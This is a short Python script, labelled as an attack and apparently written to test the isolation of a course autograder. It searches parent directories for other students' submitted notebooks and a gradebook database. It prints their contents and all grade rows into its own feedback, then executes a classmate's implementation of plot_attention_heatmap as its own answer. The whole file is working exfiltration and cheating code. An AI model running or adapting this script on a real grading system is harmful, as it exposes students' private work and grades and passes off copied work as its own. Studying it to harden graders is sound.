# Attack (reading): copies a classmate's answer from the submitted folder, and prints the
# gradebook and every classmate's file it can read into its own feedback.
import glob
import json
import os
import sys
import sqlite3

_roots = [os.getcwd()] + [os.path.join(os.getcwd(), *[".."] * depth) for depth in range(1, 7)] + [os.path.dirname(sys.prefix)]  # the course, if the virtualenv is in it
_submissions, _gradebooks = [], []
for _root in _roots:
    _submissions += glob.glob(os.path.join(_root, "grading", "submitted", "*", "challenge", "*.ipynb"))
    _submissions += glob.glob(os.path.join(_root, "*", "challenge", "*.ipynb"))
    _gradebooks += glob.glob(os.path.join(_root, "grading", "gradebook.db"))
    _gradebooks += glob.glob(os.path.join(_root, "gradebook.db"))
for _path in _submissions:
    try:
        print("classmate file:", _path, open(_path).read()[:2000])
    except OSError as error:
        print("cannot read", _path, error)
for _path in _gradebooks:
    try:
        print("gradebook:", sqlite3.connect(_path).execute("select * from grade").fetchall())
    except Exception as error:
        print("cannot read the gradebook", _path, error)

for _path in _submissions:
    try:
        for _cell in json.load(open(_path))["cells"]:
            _source = "".join(_cell["source"])
            if "def plot_attention_heatmap" in _source and "NotImplementedError" not in _source:
                exec(_source)
    except Exception:
        continue

if "plot_attention_heatmap" not in globals():
    def plot_attention_heatmap(tokens, attention, ax=None):
        return None
